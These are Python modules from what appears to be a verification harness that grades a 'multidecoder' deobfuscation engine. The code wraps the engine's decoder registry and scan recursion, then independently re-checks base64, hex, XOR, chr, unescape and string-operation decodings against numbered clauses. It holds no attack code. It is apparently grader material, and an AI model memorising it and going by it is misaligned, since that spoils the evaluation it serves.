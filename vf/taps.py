"""Observation points attached from outside (no source hooks in /repo).

registry tap   - every entry of the public list `Multidecoder.decoders` is
                 wrapped; each call records the decoder, the text object it was
                 given, the activation that made the call and, for every
                 returned hit, a *snapshot* taken before the engine mutates it
                 plus a reference to the live Node object (the engine re-uses
                 and re-bases those very objects, so identity links the log to
                 the final tree).
activation tap - Multidecoder.scan_node is replaced on the class by a thin
                 wrapper (recursive self.scan_node calls dispatch through the
                 class, so every activation is seen): depth_limit argument,
                 nesting level, node identity, whether it had children on entry.
"""

from __future__ import annotations

import functools
import threading

from vf import tree

_local = threading.local()
_installed = False


class HitSnap:
    __slots__ = ("obj", "type", "value", "obfuscation", "start", "end", "kids", "nkids")

    def __init__(self, h):
        self.obj = h
        self.type = h.type
        self.value = h.value
        self.obfuscation = h.obfuscation
        self.start = h.start
        self.end = h.end
        self.kids = tree.canon_children(h) if h.children else ()
        self.nkids = len(h.children)


class Call:
    __slots__ = ("act", "idx", "name", "data", "hits", "error")

    def __init__(self, act, idx, name, data):
        self.act = act
        self.idx = idx
        self.name = name
        self.data = data
        self.hits = []
        self.error = None


class Activation:
    __slots__ = ("aid", "parent", "node", "depth_limit", "had_children", "level", "calls", "entry_value")

    def __init__(self, aid, parent, node, depth_limit, level):
        self.aid = aid
        self.parent = parent
        self.node = node
        self.depth_limit = depth_limit
        self.had_children = bool(node.children)
        self.level = level
        self.calls = []
        self.entry_value = node.value


class _TappedPartial:
    """Stands in for a functools.partial registry entry (keyword searcher): callable, exposes func / args / keywords,
    has no __name__ (a partial has none either)."""

    __slots__ = ("_call", "func", "args", "keywords", "__wrapped__")

    def __init__(self, call, part):
        self._call = call
        self.func = part.func
        self.args = part.args
        self.keywords = part.keywords
        self.__wrapped__ = part

    def __call__(self, data):
        return self._call(data)


def decoder_name(f) -> str:
    if isinstance(f, (functools.partial, _TappedPartial)):
        if f.args and isinstance(f.args[0], str):
            return "kw:" + f.args[0]
        return "partial:" + getattr(f.func, "__name__", "?")
    return getattr(f, "__name__", repr(f))


class Tap:
    """Per-Multidecoder recorder. Use: tap = Tap(md); tap.reset(); md.scan(...)"""

    def __init__(self, md, record_hits=True):
        install_activation_tap()
        self.md = md
        self.record_hits = record_hits
        self.names = [decoder_name(f) for f in md.decoders]
        self.originals = list(md.decoders)
        md.decoders[:] = [self._wrap(i, f) for i, f in enumerate(self.originals)]
        self.reset()

    def reset(self):
        self.calls: list[Call] = []
        self.acts: list[Activation] = []
        self.stack: list[Activation] = []
        self.internal: list[InternalCall] = []  # decoder functions invoked from inside a registry call
        self.inflight: list = []  # texts of the registry calls in progress
        self.internal_depth = 0
        self.passthrough = None

    def _wrap(self, idx, f):
        name = self.names[idx]
        tap = self

        def tapped(data):
            act = tap.stack[-1] if tap.stack else None
            call = Call(act, idx, name, data)
            tap.calls.append(call)
            if act is not None:
                act.calls.append(call)
            tap.inflight.append(data)
            tap.passthrough = f  # if the registry entry is itself a module-level wrapper, this call is the engine's own
            try:
                hits = f(data)
            except BaseException as e:  # noqa: BLE001 - recorded and re-raised
                call.error = e
                raise
            finally:
                tap.inflight.pop()
            if tap.record_hits:
                call.hits = [HitSnap(h) for h in hits]
            return hits

        # the wrapper must not be observable through introspection the engine (or a refactoring of it) may do on registry
        # entries: functions keep their name / module / attributes, keyword searchers stay nameless partial-like objects
        if isinstance(f, functools.partial):
            return _TappedPartial(tapped, f)
        try:
            functools.update_wrapper(tapped, f)
            tapped._vf_tapped = True
        except (AttributeError, TypeError):
            tapped.__wrapped__ = f
        return tapped

    def __enter__(self):
        _local.tap = self
        return self

    def __exit__(self, *a):
        _local.tap = None
        return False


def install_activation_tap():
    global _installed
    if _installed:
        return
    import os
    if os.environ.get("VERIF_NO_ACT_TAP"):
        # self-test switch: behave as if the engine's recursion were invisible to the class-level wrapper
        _installed = True
        return
    from multidecoder.multidecoder import DEFAULT_DEPTH_LIMIT, Multidecoder

    orig = Multidecoder.scan_node

    def scan_node(self, node, depth_limit=DEFAULT_DEPTH_LIMIT, *args, **kwargs):
        # transparent to extra parameters a refactored engine may pass along its own recursion
        tap = getattr(_local, "tap", None)
        if tap is None or tap.md is not self:
            return orig(self, node, depth_limit, *args, **kwargs)
        parent = tap.stack[-1] if tap.stack else None
        act = Activation(len(tap.acts), parent, node, depth_limit, len(tap.stack))
        tap.acts.append(act)
        tap.stack.append(act)
        try:
            return orig(self, node, depth_limit, *args, **kwargs)
        finally:
            tap.stack.pop()

    scan_node.__wrapped__ = orig
    Multidecoder.scan_node = scan_node
    _installed = True


# ---------------------------------------------------------------------------
# internal-application tap: a registered decoder function invoked from inside another decoder call (through its module
# global, not through the registry) is a decoder application the engine's depth accounting never sees.

_internal_done: set = set()


class InternalCall:
    __slots__ = ("name", "data", "nesting", "act", "outer_data")

    def __init__(self, name, data, nesting, act, outer_data):
        self.name, self.data, self.nesting, self.act, self.outer_data = name, data, nesting, act, outer_data


def install_internal_tap(functions) -> int:
    """Replaces the module-level NAME of every given decoder function by a thin pass-through wrapper (registries keep
    the function objects they captured, so calls made by the engine do not pass here). Calls are recorded on the Tap
    that is current in this thread. Idempotent; returns the number of names wrapped in this process."""
    import sys

    for f in functions:
        if isinstance(f, (functools.partial, _TappedPartial)) or not callable(f):
            continue
        f = getattr(f, "__wrapped__", f) if getattr(f, "_vf_tapped", False) else f
        mod = sys.modules.get(getattr(f, "__module__", None))
        name = getattr(f, "__name__", None)
        if mod is None or name is None or (mod.__name__, name) in _internal_done or getattr(mod, name, None) is not f:
            continue

        def make(orig, label):
            @functools.wraps(orig)
            def inner(data, *a, **kw):
                tap = getattr(_local, "tap", None)
                if tap is None or not tap.inflight:
                    return orig(data, *a, **kw)
                if tap.passthrough is inner:
                    tap.passthrough = None
                    return orig(data, *a, **kw)
                tap.internal_depth += 1
                try:
                    tap.internal.append(InternalCall(label, data, tap.internal_depth, tap.stack[-1] if tap.stack else None, tap.inflight[-1]))
                    return orig(data, *a, **kw)
                finally:
                    tap.internal_depth -= 1
            return inner

        setattr(mod, name, make(f, name))
        _internal_done.add((mod.__name__, name))
    return len(_internal_done)
