"""Observation points attached from outside (no source hooks in /repo).

registry tap   - every entry of the public list `Multidecoder.decoders` is
                 wrapped; each call records the decoder, the text object it was
                 given, the activation that made the call and, for every
                 returned hit, a *snapshot* taken before the engine mutates it
                 plus a reference to the live Node object (the engine re-uses
                 and re-bases those very objects, so identity links the log to
                 the final tree).
activation tap - Multidecoder.scan_node is replaced on the class by a thin
                 wrapper (recursive self.scan_node calls dispatch through the
                 class, so every activation is seen): depth_limit argument,
                 nesting level, node identity, whether it had children on entry.
"""

from __future__ import annotations

import functools
import threading

from vf import tree

_local = threading.local()
_installed = False


class HitSnap:
    __slots__ = ("obj", "type", "value", "obfuscation", "start", "end", "kids", "nkids")

    def __init__(self, h):
        self.obj = h
        self.type = h.type
        self.value = h.value
        self.obfuscation = h.obfuscation
        self.start = h.start
        self.end = h.end
        self.kids = tree.canon_children(h) if h.children else ()
        self.nkids = len(h.children)


class Call:
    __slots__ = ("act", "idx", "name", "data", "hits", "error")

    def __init__(self, act, idx, name, data):
        self.act = act
        self.idx = idx
        self.name = name
        self.data = data
        self.hits = []
        self.error = None


class Activation:
    __slots__ = ("aid", "parent", "node", "depth_limit", "had_children", "level", "calls", "entry_value")

    def __init__(self, aid, parent, node, depth_limit, level):
        self.aid = aid
        self.parent = parent
        self.node = node
        self.depth_limit = depth_limit
        self.had_children = bool(node.children)
        self.level = level
        self.calls = []
        self.entry_value = node.value


def decoder_name(f) -> str:
    if isinstance(f, functools.partial):
        if f.args and isinstance(f.args[0], str):
            return "kw:" + f.args[0]
        return "partial:" + getattr(f.func, "__name__", "?")
    return getattr(f, "__name__", repr(f))


class Tap:
    """Per-Multidecoder recorder. Use: tap = Tap(md); tap.reset(); md.scan(...)"""

    def __init__(self, md, record_hits=True):
        install_activation_tap()
        self.md = md
        self.record_hits = record_hits
        self.names = [decoder_name(f) for f in md.decoders]
        self.originals = list(md.decoders)
        md.decoders[:] = [self._wrap(i, f) for i, f in enumerate(self.originals)]
        self.reset()

    def reset(self):
        self.calls: list[Call] = []
        self.acts: list[Activation] = []
        self.stack: list[Activation] = []

    def _wrap(self, idx, f):
        name = self.names[idx]
        tap = self

        def tapped(data):
            act = tap.stack[-1] if tap.stack else None
            call = Call(act, idx, name, data)
            tap.calls.append(call)
            if act is not None:
                act.calls.append(call)
            try:
                hits = f(data)
            except BaseException as e:  # noqa: BLE001 - recorded and re-raised
                call.error = e
                raise
            if tap.record_hits:
                call.hits = [HitSnap(h) for h in hits]
            return hits

        tapped.__name__ = "tapped_" + name
        tapped.__wrapped__ = f
        return tapped

    def __enter__(self):
        _local.tap = self
        return self

    def __exit__(self, *a):
        _local.tap = None
        return False


def install_activation_tap():
    global _installed
    if _installed:
        return
    import os
    if os.environ.get("VERIF_NO_ACT_TAP"):
        # self-test switch: behave as if the engine's recursion were invisible to the class-level wrapper
        _installed = True
        return
    from multidecoder.multidecoder import DEFAULT_DEPTH_LIMIT, Multidecoder

    orig = Multidecoder.scan_node

    def scan_node(self, node, depth_limit=DEFAULT_DEPTH_LIMIT, *args, **kwargs):
        # transparent to extra parameters a refactored engine may pass along its own recursion
        tap = getattr(_local, "tap", None)
        if tap is None or tap.md is not self:
            return orig(self, node, depth_limit, *args, **kwargs)
        parent = tap.stack[-1] if tap.stack else None
        act = Activation(len(tap.acts), parent, node, depth_limit, len(tap.stack))
        tap.acts.append(act)
        tap.stack.append(act)
        try:
            return orig(self, node, depth_limit, *args, **kwargs)
        finally:
            tap.stack.pop()

    scan_node.__wrapped__ = orig
    Multidecoder.scan_node = scan_node
    _installed = True
