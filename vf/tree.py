"""Tree utilities that do not rely on Node.__eq__/__iter__/flatten (those are
under test themselves)."""

from __future__ import annotations


def preorder(root):
    """Own depth-first pre-order walk over `children`, root excluded.
    Yields (node, parent, depth). Iterative: safe on deep chains."""
    stack = [(c, root, 1) for c in reversed(root.children)]
    while stack:
        node, parent, depth = stack.pop()
        yield node, parent, depth
        for c in reversed(node.children):
            stack.append((c, node, depth + 1))


def canon(node):
    """Structural canonical form: nested tuples, parent links ignored."""
    # iterative post-order to survive deep chains
    out = {}
    stack = [(node, False)]
    while stack:
        n, done = stack.pop()
        if done:
            out[id(n)] = (n.type, bytes(n.value), n.obfuscation, n.start, n.end,
                          tuple(out.pop(id(c)) for c in n.children))
        else:
            stack.append((n, True))
            for c in n.children:
                stack.append((c, False))
    return out[id(node)]


def canon_children(node):
    return canon(node)[5]


def size(c) -> int:
    """Number of nodes in a canonical form."""
    n = 0
    stack = [c]
    while stack:
        x = stack.pop()
        n += 1
        stack.extend(x[5])
    return n


def first_diff(a, b, path="root"):
    """Human-readable first difference between two canonical forms, or None."""
    names = ("type", "value", "obfuscation", "start", "end")
    for i, nm in enumerate(names):
        if a[i] != b[i]:
            return f"{path}: {nm} {a[i]!r} != {b[i]!r}"
    if len(a[5]) != len(b[5]):
        return (f"{path}: {len(a[5])} children {[(c[0], c[3], c[4]) for c in a[5]]} != "
                f"{len(b[5])} children {[(c[0], c[3], c[4]) for c in b[5]]}")
    for i, (x, y) in enumerate(zip(a[5], b[5])):
        d = first_diff(x, y, f"{path}/{i}:{x[0]}")
        if d:
            return d
    return None


def show(node, limit=40) -> str:
    """Compact rendering for messages."""
    lines = []

    def rec(n, ind):
        if len(lines) >= limit:
            return
        lines.append("  " * ind + f"{n.type!r} {n.obfuscation!r} [{n.start},{n.end}) {bytes(n.value)[:48]!r}")
        for c in n.children:
            rec(c, ind + 1)

    rec(node, 0)
    return "\n".join(lines)


def abs_start(node, stop=None) -> int:
    """Sum of start offsets from node up to (excluding) `stop` (or the root)."""
    total = 0
    n = node
    while n is not None and n is not stop and n.parent is not None:
        total += n.start
        n = n.parent
        if n is stop:
            break
    return total
