"""Tree monitors for C03 (well-formed tree, in-bounds spans) and C19 (flatten)."""

from __future__ import annotations

from vf import tree
from vf.refs import flatten_ref as fr


class Attribution:
    """Maps node objects of a result tree to the decoder call that produced them
    (top-level hit) or whose hit carried them as pre-built sub-structure."""

    def __init__(self, tap):
        self.by_id = {}
        if tap is None:
            return
        for call in tap.calls:
            for snap in call.hits:
                self.by_id.setdefault(id(snap.obj), (call, snap))

    def of(self, node):
        """-> (decoder name, role, call, snap) ; role 'hit' or 'child'."""
        n = node
        role = "hit"
        while n is not None:
            got = self.by_id.get(id(n))
            if got is not None:
                return got[0].name, role, got[0], got[1]
            role = "child"
            n = n.parent
        return "unattributed", "node", None, None


def _relation(node, role, call, snap) -> str:
    if role == "hit" and snap is not None and call is not None:
        n = len(call.data)
        if snap.end == -1:
            return "end=-1"
        if snap.end == n - snap.start:
            return "end=len(text)-start"
        if snap.end > n:
            return "end>len(text)"
        return "other"
    if role == "child":
        if node.start == 0 and node.end == len(node.value):
            return "span=[0,len(own-value))"
        return "other"
    return "other"


def check_c03(root, data, tap, report, counts=None):
    """All clauses of C03 on one result. report(key, message)."""
    from multidecoder.node import Node

    if not isinstance(root, Node):
        report("root:not-a-node", f"scan returned {type(root).__name__}")
        return
    if root.type != "" or root.obfuscation != "" or root.start != 0 or root.end != len(data) or root.parent is not None:
        report("root:fields", f"root fields type={root.type!r} obf={root.obfuscation!r} span=[{root.start},{root.end}) "
                              f"parent={'set' if root.parent is not None else None} for input of {len(data)} bytes")
    if root.value != data:
        report("root:value", "root value differs from the input")
    attr = None
    seen = {id(root)}
    mine = []
    nodes = 0
    maxdepth = 0
    for node, parent, depth in tree.preorder(root):
        nodes += 1
        maxdepth = max(maxdepth, depth)
        mine.append(node)
        if id(node) in seen:
            report("tree:node-twice", f"node object {node.type!r} [{node.start},{node.end}) reachable twice")
            break  # a shared object could also mean a cycle: stop walking
        seen.add(id(node))
        if node.parent is not parent:
            if attr is None:
                attr = Attribution(tap)
            who, role, _, _ = attr.of(node)
            report(f"tree:parent-pointer:{who}:{role}",
                   f"{node.type!r} [{node.start},{node.end}) is in the child list of {parent.type!r} but its parent "
                   f"pointer names {'None' if node.parent is None else repr(node.parent.type)}")
        plen = len(parent.value)
        bad = None
        if node.start < 0:
            bad = "start<0"
        elif node.end < node.start:
            bad = "end<start"
        elif node.end > plen:
            bad = "end>len(parent)"
        if bad:
            if attr is None:
                attr = Attribution(tap)
            who, role, call, snap = attr.of(node)
            decoder_fault = True
            if role == "hit" and snap is not None:
                n = len(call.data)
                decoder_fault = not (0 <= snap.start <= snap.end <= n)
            elif role == "child":
                # pre-built children are never re-based by the engine
                decoder_fault = True
            if role == "node":
                key = f"span:unattributed:{bad}"
            elif decoder_fault:
                key = f"span:{who}:{role}:{bad}:{_relation(node, role, call, snap)}"
            else:
                key = f"span:engine:{bad}"
            report(key, f"{node.type!r} {node.obfuscation!r} [{node.start},{node.end}) under {parent.type!r} whose value "
                        f"has {plen} bytes (from {who}, {role}"
                        + (f", returned as [{snap.start},{snap.end}) of a {len(call.data)}-byte text" if snap is not None and role == "hit" else "")
                        + ")")
        elif counts is not None:
            counts["nodes_in_bounds"] = counts.get("nodes_in_bounds", 0) + 1
    # iteration order: list(root) must be my pre-order, element by element
    try:
        theirs = list(root)
    except RecursionError:
        theirs = None  # C01's business (deep trees)
    if theirs is not None:
        if len(theirs) != len(mine) or any(a is not b for a, b in zip(theirs, mine)):
            report("tree:iteration-order", f"iterating the root yields {len(theirs)} nodes, pre-order walk {len(mine)}; "
                                           "or the order differs")
    if counts is not None:
        counts["nodes"] = counts.get("nodes", 0) + nodes
        if maxdepth >= 3:
            counts["trees_depth>=3"] = counts.get("trees_depth>=3", 0) + 1
    return nodes, maxdepth


def check_c19(root, report, counts=None, max_nodes=4000):
    """flatten() judged on every node of the tree as an outermost call."""
    c_root = tree.canon(root)
    todo = [(root, c_root)]
    judged = 0
    while todo:
        node, c = todo.pop()
        for child, cc in zip(node.children, c[5]):
            todo.append((child, cc))
        if judged >= max_nodes:
            continue
        if not _domain_rec(c):
            if counts is not None:
                counts["flatten_out_of_domain"] = counts.get("flatten_out_of_domain", 0) + 1
            continue
        judged += 1
        try:
            got = node.flatten()
        except RecursionError:
            continue  # C01's business
        want = fr.flatten_ref(c)
        if got != want:
            report("flatten:mismatch", f"flatten of {node.type!r} node gives {got[:120]!r}, reference {want[:120]!r}")
        elif c[5] and counts is not None:
            if got != c[1]:
                counts["flatten_substituted"] = counts.get("flatten_substituted", 0) + 1
        if fr.all_identity(c) and got != c[1]:
            report("flatten:identity", f"no value differs from its covered text but flatten changed the value: "
                                       f"{got[:120]!r} vs {c[1][:120]!r}")
    if counts is not None:
        counts["flatten_judged"] = counts.get("flatten_judged", 0) + judged
    return judged


def _domain_rec(c) -> bool:
    stack = [c]
    while stack:
        x = stack.pop()
        if not fr.in_domain(x):
            return False
        stack.extend(x[5])
    return True
