"""Tree monitors for C13 (base64 / hex / xor), C14 (xml refs, chr, unescape, utf-16) and C15 (concat / reverse / replace):
every node carrying one of the labels is re-derived from the text it replaced by an independent decoder."""

from __future__ import annotations

import re

from vf import tree
from vf.refs import neturl

B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
B64_IDX = {c: i for i, c in enumerate(B64)}


def b64_decode(text: bytes):
    """RFC 4648 decoding of the alphabet characters of `text` (everything else ignored). None if a single dangling character remains."""
    vals = [B64_IDX[c] for c in text if c in B64_IDX]
    out = bytearray()
    i = 0
    while i + 4 <= len(vals):
        a, b, c, d = vals[i:i + 4]
        out += bytes(((a << 2) | (b >> 4), ((b & 15) << 4) | (c >> 2), ((c & 3) << 6) | d))
        i += 4
    rest = vals[i:]
    if len(rest) == 1:
        return None
    if len(rest) == 2:
        out.append((rest[0] << 2) | (rest[1] >> 4))
    elif len(rest) == 3:
        out += bytes(((rest[0] << 2) | (rest[1] >> 4), ((rest[1] & 15) << 4) | (rest[2] >> 2)))
    return bytes(out)


_HTML_ESC = re.compile(rb"&#(?:x[a-fA-F0-9]{1,4}|\d{1,4});")
_HEXDIG = frozenset(b"0123456789abcdefABCDEF")


def quoted_arg(original: bytes):
    """Argument of a call form f('...') / f("..."): text between the first quote after '(' and the last quote."""
    p = original.find(b"(")
    if p < 0:
        return None
    q1 = min((i for i in (original.find(b"'", p), original.find(b'"', p)) if i >= 0), default=-1)
    if q1 < 0:
        return None
    q2 = max(original.rfind(b"'"), original.rfind(b'"'))
    if q2 <= q1:
        return None
    return original[q1 + 1:q2]


def in_range(node, parent):
    return 0 <= node.start <= node.end <= len(parent.value)


def check_c13(root, report, counts):
    for node, parent, _ in tree.preorder(root):
        lab = node.obfuscation
        v = bytes(node.value)
        if lab == "encoding.base64":
            if not in_range(node, parent):
                continue
            orig = node.original
            if node.type == "":
                text = _HTML_ESC.sub(b"", orig).replace(b"<\x00  \x00", b"")
                form = "bare"
            else:
                text = quoted_arg(orig)
                form = "call"
                if text is None:
                    report("b64:call-form-shape", f"node labelled base64 of type {node.type!r} does not cover a quoted call: {orig[:60]!r}")
                    continue
            want = b64_decode(text)
            counts["c13_b64_" + form] = counts.get("c13_b64_" + form, 0) + 1
            if want is None or v != want:
                report(f"b64:value:{form}", f"base64 node value {v[:40]!r} ({len(v)} bytes) is not the RFC 4648 decoding of {text[:60]!r} "
                                            f"({None if want is None else len(want)} bytes)")
        elif lab in ("decoded.hexadecimal", "encoding.hexidecimal"):
            if not in_range(node, parent):
                continue
            orig = node.original
            text = orig if lab == "decoded.hexadecimal" else quoted_arg(orig)
            if text is None:
                report("hex:call-form-shape", f"FromHexString node does not cover a quoted call: {orig[:60]!r}")
                continue
            digits = bytes(c for c in text if c in _HEXDIG)
            counts["c13_hex_" + ("bare" if lab == "decoded.hexadecimal" else "call")] = counts.get("c13_hex_" + ("bare" if lab == "decoded.hexadecimal" else "call"), 0) + 1
            try:
                want = bytes.fromhex(digits.decode())
            except ValueError:
                want = None
            if want is None or v != want:
                report("hex:value", f"hex node value {v[:40]!r} is not the bytes spelled by {digits[:60]!r}")
            if lab == "decoded.hexadecimal" and digits != text:
                report("hex:span", f"bare hex node covers non-hex text {text[:60]!r}")
        elif lab.startswith("cipher.xor"):
            pv = bytes(parent.value)
            try:
                key = int(lab[len("cipher.xor"):])
            except ValueError:
                report("xor:label", f"xor label {lab!r} has no numeric key")
                continue
            counts["c13_xor_single"] = counts.get("c13_xor_single", 0) + 1
            if not (0 <= key < 256):
                report("xor:key-range", f"xor child with key {key}")
            elif len(v) != len(pv) or any(a ^ key != b for a, b in zip(pv, v)):
                where = next((i for i, (a, b) in enumerate(zip(pv, v)) if a ^ key != b), min(len(pv), len(v)))
                report("xor:value", f"xor child (key {key}) differs from parent ^ key at byte {where} (lengths {len(v)} / {len(pv)})")
            elif (node.start, node.end) != (0, len(pv)):
                report("xor:span", f"xor child spans [{node.start},{node.end}) of a {len(pv)}-byte parent")
        elif lab == "cipher.multibyte_xor":
            pv = bytes(parent.value)
            counts["c13_xor_multibyte"] = counts.get("c13_xor_multibyte", 0) + 1
            if len(v) != len(pv):
                report("xor:multibyte-length", f"multibyte xor child has {len(v)} bytes, parent {len(pv)}")
                continue
            ks = bytes(a ^ b for a, b in zip(pv, v))
            if not any(all(ks[i] == ks[i % p] for i in range(len(ks))) for p in range(1, 66)):
                report("xor:multibyte-not-periodic", "multibyte xor child is not the parent XORed with a repeating key of length <= 65")


_XML_TOK = re.compile(rb"(?i)&#(x[0-9a-f]{2}|[0-9]{1,3});")
_CHR = re.compile(rb"(?i)chr[bw]?\((0*\d{1,5})\)\Z")
_UNESC = re.compile(rb"unescape\('([^']*)'\)\Z", re.S)


def check_c14(root, report, counts):
    for node, parent, _ in tree.preorder(root):
        lab = node.obfuscation
        if lab not in ("unescape.xml", "function.chr", "function.unescape", "codec.uft-16"):
            continue
        if not in_range(node, parent):
            continue
        v = bytes(node.value)
        orig = node.original
        counts["c14_" + lab] = counts.get("c14_" + lab, 0) + 1
        if lab == "unescape.xml":
            pos = 0
            out = bytearray()
            ok = True
            n = 0
            for m in _XML_TOK.finditer(orig):
                if m.start() != pos:
                    ok = False
                    break
                tok = m.group(1)
                val = int(tok[1:], 16) if tok[:1] in b"xX" else int(tok)
                if val > 255:
                    ok = False
                    break
                out.append(val)
                pos = m.end()
                n += 1
            if not ok or pos != len(orig):
                report("xml:span", f"xml node covers text that is not a run of numeric character references: {orig[:80]!r}")
            elif n < 5:
                report("xml:run-length", f"xml node over a run of only {n} references")
            elif v != bytes(out):
                report("xml:value", f"xml node value {v[:40]!r}, references spell {bytes(out)[:40]!r}")
        elif lab == "function.chr":
            m = _CHR.match(orig)
            if not m:
                report("chr:span", f"chr node does not cover exactly one chr/chrw/chrb call: {orig[:60]!r}")
                continue
            try:
                want = chr(int(m.group(1))).encode("utf-8")
            except (ValueError, UnicodeEncodeError):
                report("chr:unencodable-reported", f"chr node for an unencodable code point {m.group(1)!r}")
                continue
            if v != want:
                report("chr:value", f"chr({m.group(1).decode()}) reported as {v!r}, expected {want!r}")
        elif lab == "function.unescape":
            m = _UNESC.match(orig)
            if not m:
                report("unescape:span", f"unescape node does not cover exactly one unescape('...') call: {orig[:60]!r}")
                continue
            want = neturl.decode(m.group(1))
            if v != want:
                report("unescape:value", f"unescape node value {v[:60]!r}, percent-decoded argument {want[:60]!r}")
        else:
            if len(orig) % 2:
                report("utf16:span", f"utf-16 node covers an odd number of bytes ({len(orig)})")
                continue
            chars = []
            bad = False
            for i in range(0, len(orig), 2):
                if orig[i + 1] != 0:
                    bad = True
                    break
                chars.append(orig[i])
            if bad:
                report("utf16:span", f"utf-16 node covers text that is not Latin-1 UTF-16LE: {orig[:40]!r}")
                continue
            want = bytes(chars).decode("latin-1").encode("utf-8")
            if v != want:
                report("utf16:value", f"utf-16 node value {v[:40]!r}, expected {want[:40]!r}")
            elif sum(1 for c in chars if c) < 7:
                report("utf16:run-length", f"utf-16 node over fewer than seven characters: {orig[:40]!r}")


# ---------------------------------------------------------------------------
# C15

_LIT = rb"(?:\"[^\"'`\\]*\"|'[^\"'`\\]*')"
_SEP = rb"[\s_]*(?:&amp;|&|\+)[\s_]*"
_CONCAT = re.compile(rb"(" + _LIT + rb")((?:" + _SEP + _LIT + rb")+)\Z", re.S)
_PIECE = re.compile(_SEP + rb"(" + _LIT + rb")", re.S)
_OPER = re.compile(rb"[\s_]*(?:&|\+|&amp;)[\s_]*\Z")
_REV = re.compile(rb"(?i)reversed?\(\s*(" + _LIT + rb")\s*\)\Z", re.S)
_STRREV = re.compile(rb"(?i)strreverse\(\s*(" + _LIT + rb")\s*\)\Z", re.S)
_REPL_JS = re.compile(rb"(?i)(" + _LIT + rb")\.replace\(\s*(" + _LIT + rb")\s*,\s*(" + _LIT + rb")\s*\)\Z", re.S)
_REPL_VBA = re.compile(rb"(?i)replace\(\s*(" + _LIT + rb")\s*,\s*(" + _LIT + rb")\s*,\s*(" + _LIT + rb")\s*\)\Z", re.S)
_REPL_PS = re.compile(rb"(?i)(" + _LIT + rb")\s*-replace\s*(" + _LIT + rb")\s*,\s*(" + _LIT + rb")\Z", re.S)
_REPL_RE = re.compile(rb"(?i)(" + _LIT + rb")\.replace\(/([^/\[\](){}\\.+*?^$,]+)/[gim]{0,3}\s*,\s*(" + _LIT + rb")\s*\)\Z", re.S)


def check_c15(root, report, counts):
    for node, parent, _ in tree.preorder(root):
        lab = node.obfuscation
        if lab not in ("concatenation", "reverse", "vba.reverse", "replace", "vba.replace"):
            continue
        if not in_range(node, parent):
            continue
        v = bytes(node.value)
        orig = node.original
        want = None
        wtype = None
        if lab == "concatenation":
            m = _CONCAT.match(orig)
            if m:
                parts = [m.group(1)[1:-1]] + [p[1:-1] for p in _PIECE.findall(m.group(2))]
                if any(_OPER.match(p) for p in parts if p):
                    counts["c15_out_of_domain"] = counts.get("c15_out_of_domain", 0) + 1
                    continue
                want, wtype = b"".join(parts), "string"
        elif lab == "reverse":
            m = _REV.match(orig)
            if m:
                want, wtype = m.group(1)[1:-1][::-1], "string"
        elif lab == "vba.reverse":
            m = _STRREV.match(orig)
            if m:
                want, wtype = m.group(1)[1:-1][::-1], "vba.string"
        elif lab == "vba.replace":
            m = _REPL_VBA.match(orig)
            if m and m.group(2)[1:-1]:
                want, wtype = m.group(1)[1:-1].replace(m.group(2)[1:-1], m.group(3)[1:-1]), "vba.string"
        else:
            for rx, ty, regex_pat in ((_REPL_JS, "string", False), (_REPL_PS, "powershell.string", False), (_REPL_RE, "javascript.string", True)):
                m = rx.match(orig)
                if m and node.type == ty:
                    a = m.group(2) if regex_pat else m.group(2)[1:-1]
                    if a:
                        want, wtype = m.group(1)[1:-1].replace(a, m.group(3)[1:-1]), ty
                    break
        if want is None:
            counts["c15_out_of_domain"] = counts.get("c15_out_of_domain", 0) + 1
            continue
        counts["c15_" + lab] = counts.get("c15_" + lab, 0) + 1
        if v != want:
            report(f"strop:value:{lab}", f"{lab} node value {v[:60]!r}, evaluation of {orig[:80]!r} gives {want[:60]!r}")
        if node.type != wtype:
            report(f"strop:type:{lab}", f"{lab} node over {orig[:60]!r} typed {node.type!r}, expected {wtype!r}")
