"""Engine monitors over one tapped scan: C04 (context preservation), C05 (laminar
siblings / suppression), C06-B (real hit streams replayed into the reference
model), C07 (depth bound, monotonicity), C08 (sub-results == independent scan)."""

from __future__ import annotations

from vf import tree
from vf.refs import engine_model as em


def _in_tree_ids(root):
    ids = {id(root)}
    for node, _, _ in tree.preorder(root):
        ids.add(id(node))
    return ids


def _snap_ok(snap, n) -> bool:
    return 0 <= snap.start <= snap.end <= n


def searches(tap):
    """Activations that actually searched a value (made registry calls)."""
    return [a for a in tap.acts if a.calls]


class _Inv:
    """One search invocation: the node that was searched, its text, the registry calls made for it."""
    __slots__ = ("node", "entry_value", "calls", "parent")

    def __init__(self, node, entry_value, calls, parent):
        self.node = node
        self.entry_value = entry_value
        self.calls = calls
        self.parent = parent


def invocations(tap, root):
    """Search invocations. Normally read off the activation tap; if the engine's recursion is not visible to it (only
    the root activation was seen although more than one search happened) the registry calls are grouped into runs over
    one text object and the searched node is found by identity of its value."""
    acts = searches(tap)
    seen_calls = sum(len(a.calls) for a in acts)
    if seen_calls == len(tap.calls) and not (len(tap.acts) <= 1 and len(tap.calls) > len(tap.names)):
        return [_Inv(a.node, a.entry_value, a.calls, a.parent) for a in acts]
    by_value = {}
    for node in [root] + [n for n, _, _ in tree.preorder(root)]:
        by_value.setdefault(id(node.value), []).append(node)
    out = []
    run = []
    for call in tap.calls:
        if run and (call.data is not run[-1].data or call.idx <= run[-1].idx):
            out.append(run)
            run = []
        run.append(call)
    if run:
        out.append(run)
    invs = []
    for run in out:
        nodes = by_value.get(id(run[0].data), [])
        if len(nodes) != 1:
            continue  # ambiguous (interned value shared by several nodes): not judged
        node = nodes[0]
        invs.append(_Inv(node, run[0].data, run, None if node is root else node))
    return invs


def stream_well_formed(tap) -> bool:
    for call in tap.calls:
        n = len(call.data)
        for s in call.hits:
            if not _snap_ok(s, n):
                return False
            if s.kids and not _kids_ok(s.kids, len(s.value)):
                return False
    return True


def _kids_ok(kids, n):
    for k in kids:
        if not (0 <= k[3] <= k[4] <= n):
            return False
        if k[5] and not _kids_ok(k[5], len(k[1])):
            return False
    return True


def derive_levels(root, tap):
    """Decode-step bookkeeping derived from the tree and the registry tap only (independent of how the
    engine recurses): level[id(node)] = number of decoding steps between the input and the node's value
    (undecoded contexts share the level of the text they were found in; a decoded hit and a decoder-supplied
    child are one step further); pass_[id(node)] = level of the text whose search attached the node
    (decoder-supplied children belong to the pass of their top-level hit). Also returns the list of
    'searchable' nodes (root, decoded hits without supplied children, supplied leaves) with their level."""
    top = {}
    for call in tap.calls:
        for s in call.hits:
            top.setdefault(id(s.obj), s)
    level = {id(root): 0}
